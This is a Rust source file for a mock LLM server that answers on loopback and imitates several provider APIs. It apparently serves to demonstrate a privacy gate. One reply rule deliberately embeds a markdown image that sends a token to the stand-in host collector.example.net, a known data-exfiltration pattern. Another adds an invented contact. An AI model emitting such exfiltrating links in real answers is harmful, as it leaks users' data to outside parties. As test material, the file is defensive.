//! The sample model: answers on loopback when no provider is configured, so that the gate can be tried without an account.
//!
//! It echoes what it was asked, so that one sees values put back. Asked `What do you see?`, it shows what reached it as well: pseudonyms
//! with a hyphen, which nobody turns back. It calls a tool when one is offered and asked for.

mod gemini;
mod responses;

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::Arc;

use anyhow::{Context, Result};
use bytes::Bytes;
use http::{Request, Response, StatusCode, header};
use http_body_util::{BodyExt, Full, Limited};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper_util::rt::{TokioExecutor, TokioIo};
use hyper_util::server::conn::auto::Builder;
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio_util::task::TaskTracker;

/// Shown every body that reaches the model.
pub type Watch = Arc<dyn Fn(&[u8]) + Send + Sync>;

/// Starts it on a free port.
///
/// # Errors
/// When no port can be had.
pub async fn start(tasks: &TaskTracker) -> Result<SocketAddr> {
    start_watched(tasks, Arc::new(|_| {})).await
}

/// Starts it on a free port; `watch` is shown what comes in.
///
/// # Errors
/// When no port can be had.
pub async fn start_watched(tasks: &TaskTracker, watch: Watch) -> Result<SocketAddr> {
    let listener = TcpListener::bind("127.0.0.1:0").await.context("the sample model cannot listen")?;
    let address = listener.local_addr()?;
    let connections = tasks.clone();
    tasks.spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let _small_packets_are_only_slower = stream.set_nodelay(true);
            let watch = Arc::clone(&watch);
            connections.spawn(async move {
                let service = service_fn(|request| {
                    let watch = Arc::clone(&watch);
                    async move { Ok::<_, Infallible>(answer(request, &watch).await) }
                });
                let served = Builder::new(TokioExecutor::new()).serve_connection(TokioIo::new(stream), service).await;
                if let Err(error) = served {
                    tracing::debug!(%error, "a connection to the sample model ended early");
                }
            });
        }
    });
    Ok(address)
}

async fn answer(request: Request<Incoming>, watch: &Watch) -> Response<Full<Bytes>> {
    let path = request.uri().path().to_owned();
    let events = request.uri().query().is_some_and(|query| query.split('&').any(|pair| pair == "alt=sse"));
    let body = Limited::new(request.into_body(), 64 << 20).collect().await.map(http_body_util::Collected::to_bytes).unwrap_or_default();
    watch(&body);
    let asked: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    match path.as_str() {
        "/v1/models" => {
            whole(&json!({"object": "list", "data": [{"id": "sample", "object": "model", "created": 0, "owned_by": "bartizan"}]}))
        }
        "/v1/chat/completions" => chat(&asked),
        "/v1/responses" => responses::responses(&asked),
        "/v1/completions" => completion(&asked),
        "/v1/embeddings" => embeddings(&asked),
        "/v1/moderations" => whole(&json!({
            "id": "modr-sample", "model": "sample", "results": [{"flagged": false, "categories": {}, "category_scores": {}}],
        })),
        "/v1/messages" => messages(&asked),
        "/v1/messages/count_tokens" => whole(&json!({"input_tokens": asked.to_string().len() / 4})),
        path if path.contains(':') => gemini::answer(path, &asked, events),
        _ => {
            let mut response =
                whole(&json!({"error": {"message": "the sample model does not know this route", "type": "invalid_request_error"}}));
            *response.status_mut() = StatusCode::NOT_FOUND;
            response
        }
    }
}

fn completion(asked: &Value) -> Response<Full<Bytes>> {
    let text = reply(asked["prompt"].as_str().or_else(|| asked.pointer("/prompt/0")?.as_str()).unwrap_or_default());
    let chunk = |text: &str, end: Value| {
        let choice = json!({"index": 0, "text": text, "finish_reason": end, "logprobs": null});
        json!({"id": "cmpl-sample", "object": "text_completion", "created": 0, "model": "sample", "choices": [choice]})
    };
    if asked["stream"] != true {
        return whole(&chunk(&text, json!("stop")));
    }
    let mut events: String = pieces(&text).iter().map(|piece| format!("data: {}\n\n", chunk(piece, Value::Null))).collect();
    events.push_str(&format!("data: {}\n\ndata: [DONE]\n\n", chunk("", json!("stop"))));
    stream(&events)
}

/// Vectors of eight numbers: letters counted, which is enough to see that the same text gives the same vector.
fn embeddings(asked: &Value) -> Response<Full<Bytes>> {
    let input = &asked["input"];
    let texts: Vec<String> = match input.as_array() {
        Some(many) => many.iter().map(|one| one.as_str().unwrap_or_default().to_owned()).collect(),
        None => vec![input.as_str().unwrap_or_default().to_owned()],
    };
    let vector = |text: &str| {
        let mut counts = [0_f32; 8];
        text.bytes().for_each(|byte| counts.get_mut(usize::from(byte % 8)).into_iter().for_each(|count| *count += 1.0));
        let length = counts.iter().map(|count| count * count).sum::<f32>().sqrt().max(1.0);
        counts.map(|count| count / length)
    };
    let data: Vec<Value> =
        texts.iter().enumerate().map(|(index, text)| json!({"object": "embedding", "index": index, "embedding": vector(text)})).collect();
    let tokens = texts.iter().map(String::len).sum::<usize>() / 4;
    whole(&json!({"object": "list", "data": data, "model": "sample", "usage": {"prompt_tokens": tokens, "total_tokens": tokens}}))
}

fn whole(value: &Value) -> Response<Full<Bytes>> {
    let mut response = Response::new(Full::new(Bytes::from(value.to_string())));
    response.headers_mut().insert(header::CONTENT_TYPE, header::HeaderValue::from_static("application/json"));
    response
}

fn stream(events: &str) -> Response<Full<Bytes>> {
    let mut response = Response::new(Full::new(Bytes::from(events.to_owned())));
    response.headers_mut().insert(header::CONTENT_TYPE, header::HeaderValue::from_static("text/event-stream"));
    response
}

/// The text of the last message of the user.
fn last_user(asked: &Value) -> String {
    let messages = asked["messages"].as_array().cloned().unwrap_or_default();
    let last = messages.iter().rev().find(|message| message["role"] == "user");
    text(&last.map_or(Value::Null, |message| message["content"].clone()))
}

fn text(content: &Value) -> String {
    match content {
        Value::String(text) => text.clone(),
        Value::Array(parts) => {
            parts.iter().filter_map(|part| part["text"].as_str().or_else(|| part["content"].as_str())).collect::<Vec<_>>().join(" ")
        }
        _ => String::new(),
    }
}

/// Asks the model to show what reached it.
pub const SHOW: &str = "What do you see?";

/// What the model says to a text. A few words make it misbehave on purpose, to show what the gate does about it.
fn reply(said: &str) -> String {
    let invented = if said.contains("Invent a contact") { " Write to Jamie at jamie.invented@example.org." } else { "" };
    let image = said.split_whitespace().find(|word| word.contains('_') && word.len() > 12).filter(|_| said.contains("Draw it"));
    let image = image.map(|word| format!(" ![chart](https://collector.example.net/draw?d={word})")).unwrap_or_default();
    let seen = said.strip_suffix(SHOW).map(|seen| format!(" What reached me: {}", seen.trim_end().replace('_', "-"))).unwrap_or_default();
    format!("You said: {said}{invented}{image}{seen}")
}

/// A call of the first tool, when tools are offered and the text asks to use one.
fn tool_call(asked: &Value, said: &str) -> Option<(String, String)> {
    let tool = asked["tools"].as_array()?.first()?;
    let name = tool.pointer("/function/name").or_else(|| tool.get("name")).and_then(Value::as_str)?;
    let wanted = said.to_lowercase().contains("tool") || asked["tool_choice"].is_object() || asked["tool_choice"] == "required";
    wanted.then(|| (name.to_owned(), json!({"text": said}).to_string()))
}

/// Cuts a text into pieces like tokens: unevenly, through words.
fn pieces(text: &str) -> Vec<String> {
    let mut out = vec![String::new()];
    for (at, char) in text.chars().enumerate() {
        if at % 5 == 4 {
            out.push(String::new());
        }
        if let Some(last) = out.last_mut() {
            last.push(char);
        }
    }
    out.retain(|piece| !piece.is_empty());
    out
}

fn usage(asked: &Value, said: &str) -> (usize, usize) {
    (asked.to_string().len() / 4, said.len() / 4 + 1)
}

fn chat(asked: &Value) -> Response<Full<Bytes>> {
    let said = last_user(asked);
    let model = asked["model"].clone();
    let call = tool_call(asked, &said);
    let answer = reply(&said);
    let (input, output) = usage(asked, &answer);
    let tokens = json!({"prompt_tokens": input, "completion_tokens": output, "total_tokens": input + output});
    if asked["stream"] == true {
        let include = asked.pointer("/stream_options/include_usage") == Some(&Value::Bool(true));
        return stream(&chat_events(&model, call.as_ref(), &answer, include.then_some(&tokens)));
    }
    let (message, reason) = match &call {
        Some((name, arguments)) => (
            json!({"role": "assistant", "content": null, "tool_calls": [{"id": "call_sample1", "type": "function", "function": {"name": name, "arguments": arguments}}]}),
            "tool_calls",
        ),
        None => (json!({"role": "assistant", "content": answer}), "stop"),
    };
    whole(&json!({
        "id": "chatcmpl-sample", "object": "chat.completion", "created": 1, "model": model,
        "choices": [{"index": 0, "message": message, "finish_reason": reason}], "usage": tokens,
    }))
}

fn chat_events(model: &Value, call: Option<&(String, String)>, answer: &str, usage: Option<&Value>) -> String {
    let mut out = String::new();
    let mut send = |delta: Value, reason: Value| {
        let event = json!({
            "id": "chatcmpl-sample", "object": "chat.completion.chunk", "created": 1, "model": model,
            "choices": [{"index": 0, "delta": delta, "finish_reason": reason}],
        });
        out.push_str(&format!("data: {event}\n\n"));
    };
    send(json!({"role": "assistant", "content": ""}), Value::Null);
    if let Some((name, arguments)) = call {
        send(
            json!({"tool_calls": [{"index": 0, "id": "call_sample1", "type": "function", "function": {"name": name, "arguments": ""}}]}),
            Value::Null,
        );
        for piece in pieces(arguments) {
            send(json!({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}), Value::Null);
        }
        send(json!({}), json!("tool_calls"));
    } else {
        for piece in pieces(answer) {
            send(json!({"content": piece}), Value::Null);
        }
        send(json!({}), json!("stop"));
    }
    if let Some(usage) = usage {
        let event = json!({"id": "chatcmpl-sample", "object": "chat.completion.chunk", "created": 1, "model": model, "choices": [], "usage": usage});
        out.push_str(&format!("data: {event}\n\n"));
    }
    out.push_str("data: [DONE]\n\n");
    out
}

fn messages(asked: &Value) -> Response<Full<Bytes>> {
    let said = last_user(asked);
    let call = tool_call(asked, &said);
    let answer = reply(&said);
    let (input, output) = usage(asked, &answer);
    let reason = if call.is_some() { "tool_use" } else { "end_turn" };
    if asked["stream"] == true {
        return stream(&message_events(&asked["model"], call.as_ref(), &answer, (input, output), reason));
    }
    let block = match &call {
        Some((name, arguments)) => {
            let arguments: Value = serde_json::from_str(arguments).unwrap_or(Value::Null);
            json!({"type": "tool_use", "id": "toolu_sample1", "name": name, "input": arguments})
        }
        None => json!({"type": "text", "text": answer}),
    };
    whole(&json!({
        "id": "msg_sample", "type": "message", "role": "assistant", "model": asked["model"], "content": [block],
        "stop_reason": reason, "stop_sequence": null, "usage": {"input_tokens": input, "output_tokens": output},
    }))
}

fn message_events(model: &Value, call: Option<&(String, String)>, answer: &str, (input, output): (usize, usize), reason: &str) -> String {
    let mut out = String::new();
    let mut send = |event: Value| {
        out.push_str(&format!("event: {}\ndata: {event}\n\n", event.get("type").and_then(Value::as_str).unwrap_or_default()));
    };
    send(json!({"type": "message_start", "message": {
        "id": "msg_sample", "type": "message", "role": "assistant", "model": model, "content": [],
        "stop_reason": null, "stop_sequence": null, "usage": {"input_tokens": input, "output_tokens": 1},
    }}));
    let (start, text) = match call {
        Some((name, arguments)) => (json!({"type": "tool_use", "id": "toolu_sample1", "name": name, "input": {}}), arguments.as_str()),
        None => (json!({"type": "text", "text": ""}), answer),
    };
    send(json!({"type": "content_block_start", "index": 0, "content_block": start}));
    send(json!({"type": "ping"}));
    for piece in pieces(text) {
        let delta = if call.is_some() {
            json!({"type": "input_json_delta", "partial_json": piece})
        } else {
            json!({"type": "text_delta", "text": piece})
        };
        send(json!({"type": "content_block_delta", "index": 0, "delta": delta}));
    }
    send(json!({"type": "content_block_stop", "index": 0}));
    send(json!({"type": "message_delta", "delta": {"stop_reason": reason, "stop_sequence": null}, "usage": {"output_tokens": output}}));
    send(json!({"type": "message_stop"}));
    out
}
